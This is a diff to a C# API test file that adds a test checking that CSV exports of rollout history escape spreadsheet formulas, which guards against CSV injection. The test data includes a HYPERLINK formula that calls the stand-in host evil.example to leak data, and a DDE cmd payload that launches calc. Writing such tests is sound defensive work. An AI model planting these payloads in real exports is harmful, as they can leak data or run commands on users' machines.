@@ -174,6 +174,28 @@ public sealed class HistoryApiTests : IAsyncLifetime
         Assert.Contains("\"ops, \"\"night\"\" shift\"", row, StringComparison.Ordinal);
     }
 
+    [Theory]
+    [InlineData("=HYPERLINK(\"http://evil.example/?leak\",\"open\")", "\"'=HYPERLINK(\"\"http://evil.example/?leak\"\",\"\"open\"\")\"")]
+    [InlineData("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0")]
+    [InlineData("@SUM(1+1)", "'@SUM(1+1)")]
+    [InlineData("+1", "'+1")]
+    public async Task A_csv_cell_that_a_spreadsheet_would_run_as_a_formula_is_neutralized(string actor, string cell)
+    {
+        // A name someone chose (here the actor) must open as text in a spreadsheet, never as a formula (OWASP CSV injection).
+        var options = new ConsoleTestHostOptions();
+        options.Settings["Console:DefaultActor"] = actor;
+        await using ConsoleTestHost host = await ConsoleTestHost.StartAsync(options);
+        using HttpClient client = host.CreateClient();
+        await PutAsync(client, """{ "v1": 80, "v2": 20, "v3": 0 }""");
+
+        using HttpResponseMessage csv = await client.GetAsync(new Uri("api/v1/rollouts?format=csv", UriKind.Relative));
+        string row = (await csv.Content.ReadAsStringAsync()).Split("\r\n").Single(static l => l.StartsWith("bookinfo,reviews,", StringComparison.Ordinal));
+
+        Assert.Contains("," + cell + ",", row, StringComparison.Ordinal);
+        Assert.DoesNotContain("," + actor, row, StringComparison.Ordinal);
+        Assert.DoesNotContain(",\"" + actor[0], row, StringComparison.Ordinal);
+    }
+
     [Fact]
     public async Task The_audit_list_filters_and_a_bad_time_is_a_400_naming_the_parameter()
     {
